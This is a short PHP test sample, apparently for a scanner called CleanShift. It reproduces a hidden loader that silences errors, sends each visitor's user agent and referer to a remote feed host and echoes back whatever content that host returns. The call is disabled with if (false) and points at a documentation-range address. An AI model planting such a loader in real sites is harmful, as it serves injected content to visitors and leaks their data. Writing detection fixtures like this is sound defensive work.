<?php
// CleanShift test sample: the technique is real, the payload is harmless.
error_reporting(0);
$sources = array('http://192.0.2.10/feed.php');
$agent = $_SERVER['HTTP_USER_AGENT'];
$from = isset($_SERVER['HTTP_REFERER']) ? $_SERVER['HTTP_REFERER'] : '';
if (false) {
    echo file_get_contents($sources[0] . '?a=' . urlencode($agent) . '&r=' . urlencode($from));
}
